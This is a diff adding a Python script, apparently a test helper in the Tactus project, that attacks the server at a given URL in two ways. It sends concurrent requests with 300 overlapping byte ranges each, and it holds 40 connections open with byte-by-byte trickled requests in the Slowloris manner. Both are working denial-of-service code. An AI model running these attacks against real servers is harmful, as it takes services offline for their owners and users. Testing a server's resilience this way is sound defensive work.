@@ -1,0 +1,59 @@
+# SPDX-License-Identifier: Apache-2.0
+# Copyright the Tactus authors.
+"""web_peers.py URL ATTACK: what a page, or any program of this machine, may do to the server of a
+URL. With `parts` four ask at once for 300 parts of what is there, and each answer's size is printed.
+With `slow`, 40 connections stay, are made again when they are closed, and send a byte of a request
+now and then, until standard input ends; `ready` is printed when all are there."""
+import select
+import socket
+import sys
+import threading
+import time
+from urllib.parse import urlsplit
+
+url, attack = urlsplit(sys.argv[1]), sys.argv[2]
+
+
+def connect():
+    return socket.create_connection((url.hostname, url.port))
+
+
+def ask_for_parts(sizes):
+    with connect() as peer:
+        peer.sendall(f"GET {url.path} HTTP/1.1\r\nHost: {url.netloc}\r\n"
+                     f"Range: bytes={','.join(300 * ['0-'])}\r\n\r\n".encode())
+        size = 0
+        while data := peer.recv(1 << 20):
+            size += len(data)
+        sizes.append(size)
+
+
+def keep_forty():
+    peers = []
+    is_told = False
+    while not select.select([sys.stdin], [], [], 0)[0]:
+        while len(peers) < 40:
+            peers.append(connect())
+        if not is_told:
+            is_told = True
+            print("ready", flush=True)
+        for peer in list(peers):
+            try:
+                peer.send(b"G")
+                if select.select([peer], [], [], 0)[0] and not peer.recv(4096):
+                    raise ConnectionResetError
+            except OSError:
+                peers.remove(peer)
+        time.sleep(0.01)
+
+
+if attack == "parts":
+    answers = []
+    threads = [threading.Thread(target=ask_for_parts, args=(answers,)) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    print(*answers)
+else:
+    keep_forty()
